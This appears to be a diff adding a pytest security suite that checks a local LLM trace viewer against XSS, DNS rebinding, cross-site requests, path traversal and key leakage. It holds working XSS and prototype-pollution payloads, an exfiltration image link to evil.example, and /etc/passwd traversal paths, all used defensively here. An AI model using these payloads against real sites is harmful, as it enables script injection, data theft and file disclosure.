@@ -1,0 +1,471 @@
+"""Attack 22: the page. What a model, a tool, a user or another site says is text on it, and opens nothing."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import http.client
+import json
+import socket
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from pydantic import BaseModel
+
+from SimpleLLMFunc import Message, OpenAICompatible, Tool, llm_chat, llm_function
+from SimpleLLMFunc.base.observe import watching
+from SimpleLLMFunc.errors import SimpleLLMFuncError
+from SimpleLLMFunc.logger.redact import remember_secret
+from SimpleLLMFunc.observability.store import TraceStore
+from SimpleLLMFunc.testing import ScriptedLLM, tool_calls
+from tests.support.canary import CANARIES
+from tests.support.server import LoopbackServer
+from tests.viewer.served import HEADERS, LOOPBACK, TOKEN, Served, Visit, app_of, client_of, opened_browser
+
+MARKUP = [
+    "<img src=x onerror=window.pwned=1>",
+    "</script><script>window.pwned=1</script>",
+    '"><svg onload=window.pwned=1>',
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<a href='javascript:window.pwned=1'>here</a>",
+    "[here](javascript:window.pwned=1)",
+    "![x](https://evil.example/?d=secret)",
+    "<style>*{display:none}</style>",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "<math><mtext></p><img src=x onerror=window.pwned=1>",
+]
+ALL = "\n".join(MARKUP)
+POLLUTED: dict[str, Any] = {
+    "__proto__": {"polluted": 1},
+    "constructor": {"prototype": {"polluted": 1}},
+    "toString": "x",
+    "hasOwnProperty": "y",
+    "text": ALL,
+}
+
+
+class Reply(BaseModel):
+    text: str
+
+
+def _named(name: str) -> Any:
+    def function(text: str, options: dict[str, Any] | None = None, mark: str = ALL) -> Reply:
+        raise NotImplementedError
+
+    function.__name__ = function.__qualname__ = name
+    function.__doc__ = f"Answer. {ALL}"
+    return function
+
+
+def _tool(**arguments: Any) -> str:
+    return f"found {ALL}"
+
+
+EVIL_TOOL = Tool(
+    func=_tool, name="look", description=ALL, parameters={"type": "object", "properties": {ALL: {"type": "string"}}}
+)
+EVIL_NAME = MARKUP[2]
+
+
+def hostile(model: str = ALL, **options: Any) -> Any:
+    """A function all of whose parts are markup, and a model that answers markup."""
+    reasks = [
+        json.dumps({"text": 3, "__proto__": {"polluted": 1}}),
+        json.dumps({"text": ALL, "__proto__": {"polluted": 1}}),
+    ]
+    calls = tool_calls(("look", json.dumps(POLLUTED)), (MARKUP[0], "{}"), content=ALL)
+    llm = ScriptedLLM(calls, *reasks, model_name=model, repeat=True)
+    return llm_function(llm_interface=llm, toolkit=[EVIL_TOOL], repair="off", **options)(_named(EVIL_NAME))
+
+
+@llm_chat(llm_interface=ScriptedLLM(ALL, repeat=True))
+def guide(history: list[Message], message: str):
+    """<img src=x onerror=window.pwned=1>"""
+    raise NotImplementedError
+
+
+@pytest.fixture
+def store(tmp_path) -> Iterator[TraceStore]:
+    with TraceStore(tmp_path / "runs.sqlite", interval=0.01) as made:
+        yield made
+
+
+def fill(store: TraceStore) -> None:
+    with watching(store, session_id=ALL, user_id=ALL):
+        hostile()(ALL, POLLUTED)
+        failing = hostile(max_reasks=0)
+        with pytest.raises(SimpleLLMFuncError):
+            failing(ALL, POLLUTED)
+        for _ in guide([{"role": "user", "content": ALL}, {"role": "assistant", "content": ALL}], ALL):
+            pass
+    assert store.flush()
+
+
+@pytest.fixture
+def browser() -> Iterator[Any]:
+    with opened_browser() as opened:
+        yield opened
+
+
+# --- text is text -----------------------------------------------------------------------------------------
+
+
+def _unharmed(visit: Visit) -> None:
+    assert visit.problems == []
+    state = visit.tab.evaluate(
+        """() => ({
+            pwned: typeof window.pwned, polluted: ({}).polluted, proto: Object.keys(Object.prototype).length,
+            made: document.querySelectorAll("main img, main svg:not(.icon), main iframe, main script, main style, main math").length,
+            links: [...document.querySelectorAll("a")].map((link) => link.getAttribute("href")).filter((at) => !at.startsWith("#")),
+            handlers: [...document.querySelectorAll("main *")].filter((each) => [...each.attributes].some((a) => /^on/.test(a.name))).length,
+        })"""
+    )
+    assert state == {
+        "pwned": "undefined",
+        "proto": 0,
+        "made": 0,
+        "links": [],
+        "handlers": 0,
+        **({"polluted": None} if "polluted" in state else {}),
+    }
+
+
+@pytest.mark.heavy
+def test_attack_22_markup_in_any_part_of_a_run_is_shown_as_text(browser, store, tmp_path):
+    fill(store)
+    checkpoint = tmp_path / "map.sqlite"
+    hostile(max_reasks=0).map([{"text": ALL, "options": POLLUTED}], checkpoint=checkpoint)
+    app = app_of(store, allow_run=[hostile(), guide], checkpoints=[checkpoint])
+    with Served(app) as served, Visit(browser, served.address) as visit:
+        tab = visit.go("/runs", "tbody tr")
+        assert tab.locator("tbody tr").count() == 3
+        assert EVIL_NAME in tab.inner_text("main")
+        _unharmed(visit)
+        for number in (1, 2, 3):
+            tab = visit.go(f"/run/{number}", "section.card")
+            for shown in tab.locator("details").all():
+                shown.evaluate("each => { each.open = true; }")
+            for button in tab.locator(".tabs button").all():
+                button.click()
+            for button in tab.locator("button.plain.small").all():
+                if button.is_visible():
+                    button.click()
+            assert MARKUP[0] in tab.inner_text("main")
+            _unharmed(visit)
+        for place, waiting in (
+            ("/functions", "tbody tr"),
+            (f"/function/{_quoted(EVIL_NAME)}", ".versions"),
+            ("/play", ".pick"),
+            (f"/play/{_quoted(EVIL_NAME)}?run=1", "form"),
+            ("/chat", ".pick"),
+            ("/maps", ".meter"),
+            ("/map/0", ".rows"),
+            (f"/nowhere/{_quoted(ALL)}", ".empty"),
+            (f"/runs?text={_quoted(ALL)}&function={_quoted(ALL)}", ".filters"),
+        ):
+            visit.go(place, waiting)
+            _unharmed(visit)
+        tab = visit.go(f"/play/{_quoted(EVIL_NAME)}?run=1", "form")
+        tab.click("button.first")
+        tab.wait_for_selector(".diff")
+        assert MARKUP[0] in tab.inner_text("main")
+        _unharmed(visit)
+        tab = visit.go("/chat/guide", ".talk")
+        tab.fill(".say textarea", ALL)
+        tab.keyboard.press("Enter")
+        tab.wait_for_selector(".bubble:not(.mine):has-text('evil.example')")
+        _unharmed(visit)
+
+
+def _quoted(text: str) -> str:
+    from urllib.parse import quote
+
+    return quote(text, safe="")
+
+
+@pytest.mark.heavy
+def test_attack_22_the_browser_itself_refuses_markup(browser, store):
+    store.reader.seq()
+    with Served(app_of(store)) as served, Visit(browser, served.address) as visit:
+        refused = visit.tab.evaluate(
+            """() => {
+                const tried = [];
+                const attempt = (name, work) => { try { work(); tried.push(name); } catch (error) { /* as it should be */ } };
+                attempt("innerHTML", () => { document.body.innerHTML = "<b>x</b>"; });
+                attempt("insertAdjacentHTML", () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"));
+                const script = document.createElement("script");
+                attempt("script text", () => { script.text = "window.pwned = 1"; document.body.append(script); });
+                const inline = document.createElement("b");
+                attempt("onclick", () => inline.setAttribute("onclick", "window.pwned = 1"));
+                document.body.append(inline);
+                inline.click();
+                return { tried, pwned: typeof window.pwned };
+            }"""
+        )
+        assert refused == {"tried": [], "pwned": "undefined"}
+        # What the page itself runs, and not the tool that looks at it.
+        policy = visit.tab.evaluate("fetch('app.js').then((reply) => reply.headers.get('content-security-policy'))")
+        assert "unsafe-eval" not in policy
+        assert visit.tab.evaluate("fetch('http://127.0.0.1:9/').then(() => 'went out', () => 'refused')") == "refused"
+
+
+def test_attack_22_the_page_holds_no_data_and_data_is_no_page(store):
+    fill(store)
+    client = client_of(app_of(store))
+    for path in ("/", "/index.html"):
+        assert "pwned" not in client.get(path).text
+    for path in ("runs", "runs/1", "functions", "filters", "changes?since=0", "runs/3/test"):
+        reply = client.get(f"/api/{path}")
+        assert reply.status_code == 200, path
+        assert reply.headers["content-type"] == "application/json"
+        assert reply.headers["x-content-type-options"] == "nosniff"
+        assert "script-src 'self'" in reply.headers["content-security-policy"]
+
+
+def test_attack_22_a_copied_test_runs_nothing_of_what_it_copies(store):
+    import ast
+
+    fill(store)
+    text = client_of(app_of(store)).get("/api/runs/3/test").json()["text"]
+    tree = ast.parse(text)
+    names = {type(node).__name__ for node in tree.body}
+    assert names <= {"Expr", "Import", "ImportFrom", "Assign", "FunctionDef"}
+    for node in tree.body:
+        if isinstance(node, ast.Assign):
+            ast.literal_eval(node.value)
+    # A name that is no identifier is not written as code.
+    assert client_of(app_of(store)).get("/api/runs/1/test").status_code == 409
+
+
+# --- other sites ------------------------------------------------------------------------------------------
+
+
+def raw(port: int, request: bytes, *, goes: bool = False) -> bytes:
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
+        connection.sendall(request)
+        if goes:
+            connection.shutdown(socket.SHUT_WR)
+        answer = b""
+        while piece := connection.recv(65536):
+            answer += piece
+        return answer
+
+
+def _port(served: Served) -> int:
+    return int(served.address.partition("/#")[0].rpartition(":")[2])
+
+
+def test_attack_22_it_listens_on_this_machine_only(store):
+    with Served(app_of(store)) as served:
+        assert served.address.startswith("http://127.0.0.1:")
+        port = _port(served)
+        name = socket.gethostname()
+        others = {info[4][0] for info in socket.getaddrinfo(name, None, socket.AF_INET)} - {"127.0.0.1", "127.0.1.1"}
+        for address in others:
+            with pytest.raises(OSError, match=r"refused|unreachable|timed out"):
+                socket.create_connection((address, port), timeout=2)
+
+
+@pytest.mark.parametrize(
+    "host", ["evil.com", "evil.com:{port}", "127.0.0.1.evil.com:{port}", "rebind.network", "[::ffff:7f00:1]"]
+)
+def test_attack_22_a_rebound_name_gets_nothing(store, host):
+    """DNS rebinding: the name of another site leads to this machine, so that its scripts could read the page."""
+    fill(store)
+    with Served(app_of(store)) as served:
+        port = _port(served)
+        for path in ("/", "/api/runs", "/app.js"):
+            request = f"GET {path} HTTP/1.1\r\nHost: {host.format(port=port)}\r\nX-SimpleLLMFunc-Token: {TOKEN}\r\nConnection: close\r\n\r\n"
+            answer = raw(port, request.encode())
+            assert answer.startswith(b"HTTP/1.1 421"), answer[:80]
+            assert b"pwned" not in answer
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"Origin": "http://evil.com"},
+        {"Origin": "null"},
+        {"Sec-Fetch-Site": "cross-site"},
+        {"Sec-Fetch-Site": "same-site", "Origin": "http://localhost:1"},
+        {"Origin": "http://127.0.0.1:1"},
+        {"Content-Type": "text/plain"},
+        {"Content-Type": "application/x-www-form-urlencoded"},
+    ],
+    ids=str,
+)
+@pytest.mark.parametrize("token", [TOKEN, None], ids=["with a token", "without"])
+def test_attack_22_another_site_runs_nothing(store, headers, token):
+    """What a page elsewhere can make a browser send here, even one that got hold of the token."""
+    llm = ScriptedLLM("ran")
+    function = llm_function(llm_interface=llm)(_named("target"))
+    given = {
+        "Origin": LOOPBACK,
+        "Content-Type": "application/json",
+        **({"X-SimpleLLMFunc-Token": token} if token else {}),
+        **headers,
+    }
+    client = client_of(app_of(store, allow_run=[function]))
+    for name in HEADERS:
+        del client.headers[name]
+    reply = client.post("/api/play/target", content=b'{"arguments": {"text": "x"}}', headers=given)
+    assert reply.status_code in {401, 403, 415}
+    assert llm.calls == []
+
+
+def test_attack_22_without_the_token_the_own_origin_runs_nothing(store):
+    llm = ScriptedLLM("ran")
+    client = client_of(app_of(store, allow_run=[llm_function(llm_interface=llm)(_named("target"))]))
+    del client.headers["X-SimpleLLMFunc-Token"]
+    reply = client.post("/api/play/target", json={"arguments": {"text": "x"}}, headers={"Origin": LOOPBACK})
+    assert reply.status_code == 401
+    assert llm.calls == []
+
+
+@pytest.mark.heavy
+def test_attack_22_a_page_of_another_site_reads_nothing_and_runs_nothing(browser, store):
+    fill(store)
+    llm = ScriptedLLM("ran", repeat=True)
+    app = app_of(store, allow_run=[llm_function(llm_interface=llm)(_named("target"))])
+    with Served(app) as served, Served(app_of(store)) as other:
+        base = served.address.partition("#")[0]
+        # The other page stands on another port of this machine, which a browser counts as another origin.
+        context = browser.new_context()
+        tab = context.new_page()
+        tab.goto(f"{other.address.partition('#')[0]}icon.svg")
+        tried = tab.evaluate(
+            """async ([base, token]) => {
+                const outcome = {};
+                const attempt = async (name, ...how) => {
+                    try { const reply = await fetch(...how); outcome[name] = reply.type === "opaque" ? "opaque" : await reply.text(); }
+                    catch { outcome[name] = "refused"; }
+                };
+                const headers = { "X-SimpleLLMFunc-Token": token };
+                await attempt("read", base + "api/runs", { headers });
+                await attempt("simple", base + "api/runs", { mode: "no-cors" });
+                await attempt("post", base + "api/play/target", { method: "POST", mode: "no-cors", body: '{"arguments": {"text": "x"}}' });
+                await attempt("json", base + "api/play/target", { method: "POST", headers: { ...headers, "Content-Type": "application/json" }, body: '{"arguments": {"text": "x"}}' });
+                return outcome;
+            }""",
+            [base, TOKEN],
+        )
+        context.close()
+    assert set(tried.values()) <= {"refused", "opaque"}, tried
+    assert tried["read"] == tried["json"] == "refused"
+    assert llm.calls == []
+
+
+# --- paths ------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/../../etc/passwd", "/..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "//etc/passwd", "/static/../server.py", "/..\\..\\server.py",
+        "/server.py", "/__init__.py", "/lang/../../security.py", "/lang/%00en.json", "/.", "/lang/", "/vendor", "/api/../server.py",
+        "/api/runs/..%2f..%2f..%2fetc%2fpasswd", "/api/maps/..%2f..%2fetc%2fpasswd", "http://evil.com/", "/" + "a" * 20_000, "/%ff%fe",
+    ],
+)  # fmt: skip
+def test_attack_22_no_path_leads_to_a_file(store, path):
+    fill(store)
+    with Served(app_of(store)) as served:
+        port = _port(served)
+        request = f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-SimpleLLMFunc-Token: {TOKEN}\r\nConnection: close\r\n\r\n"
+        answer = raw(port, request.encode())
+    status = int(answer.split(b" ", 2)[1])
+    assert status in {400, 404, 414, 431}, answer[:200]
+    for part in (b"root:", b"def ", b"import ", b"pwned"):
+        assert part not in answer
+
+
+def test_attack_22_the_page_writes_nothing(store):
+    fill(store)
+    before = store.path.read_bytes()
+    client = client_of(app_of(store), Origin=LOOPBACK)
+    for method in ("POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND"):
+        for path in ("/", "/api/runs", "/api/runs/1", "/api/functions", "/api/maps"):
+            assert client.request(
+                method, path, content=b"{}", headers={"content-type": "application/json"}
+            ).status_code in {404, 405}
+    assert store.path.read_bytes() == before
+
+
+def test_attack_22_odd_requests_are_answered_and_the_page_goes_on(store):
+    store.reader.seq()
+    with Served(app_of(store)) as served:
+        port = _port(served)
+        for request in (
+            b"\x16\x03\x01\x02\x00",
+            b"GET\r\n\r\n",
+            b"GET / HTTP/9.9\r\n\r\n",
+            b"GET / HTTP/1.1\r\n\r\n",
+            b"\0" * 100 + b"\r\n\r\n",
+        ):
+            answer = raw(port, request, goes=True)
+            assert not answer or answer.startswith((b"HTTP/1.1 4", b"HTTP/1.1 5")), answer[:80]
+        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
+        connection.request("GET", "/api/runs", headers=HEADERS)
+        assert connection.getresponse().status == 200
+        connection.close()
+
+
+# --- keys -------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("canary", CANARIES, ids=lambda canary: canary.name)
+def test_attack_22_no_key_is_on_the_page(store, canary, tmp_path):
+    """A key in the arguments, the answer, a tool, an error, an address: nothing that the page is sent holds it."""
+    remember_secret(canary.key)
+
+    def leak() -> str:
+        """Leak."""
+        raise RuntimeError(f"https://u:{canary.key}@h/?api_key={canary.key}")
+
+    def asked(text: str) -> str:
+        """Answer."""
+        raise NotImplementedError
+
+    async def go():
+        async with LoopbackServer() as server:
+            server.reply_tool_calls([("leak", {})])
+            server.reply(f"The key is {canary.key}, {json.dumps(canary.key)}.")
+            server.reply_json({"error": {"message": f"Incorrect API key: {canary.key}"}}, status=401)
+            llm = OpenAICompatible("m", api_key=canary.key, base_url=f"{server.base_url}?key={_quoted(canary.key)}")
+            function = llm_function(llm_interface=llm, toolkit=[leak])(asked)
+            with watching(store):
+                for _ in range(2):
+                    with contextlib.suppress(SimpleLLMFuncError):
+                        await asyncio.to_thread(function, f"use {canary.key}")
+
+    asyncio.run(go())
+    assert store.flush()
+    echo = llm_function(llm_interface=ScriptedLLM(f"I was given {canary.key}!", repeat=True, chunk_size=3))(asked)
+    checkpoint = tmp_path / "map.sqlite"
+    echo.map([{"text": canary.key}], checkpoint=checkpoint)
+    client = client_of(app_of(store, allow_run=[echo], checkpoints=[checkpoint]), Origin=LOOPBACK)
+    texts = {}
+    for path in (
+        *(
+            "runs",
+            "runs/1",
+            "runs/2",
+            "changes?since=0",
+            "filters",
+            "functions",
+            "functions/asked",
+            "play",
+            "chats",
+            "maps",
+            "maps/0",
+        ),
+        *("maps/0/rows", "runs/1/curl?number=1", "runs/1/test", f"runs?text={_quoted('key is')}"),
+    ):
+        texts[path] = client.get(f"/api/{path}").text
+    texts["play"] = client.post("/api/play/asked", json={"arguments": {"text": canary.key}}).text
+    texts["preview"] = client.post("/api/play/asked/preview", json={"arguments": {"text": canary.key}}).text
+    texts["wrong"] = client.post("/api/play/asked", json={"arguments": {"text": 3, "more": canary.key}}).text
+    found = {path: canary.found_in(text) for path, text in texts.items() if canary.found_in(text)}
+    assert found == {}
+    pieces = "".join(json.loads(line).get("text", "") for line in texts["play"].splitlines())
+    assert not canary.found_in(pieces)
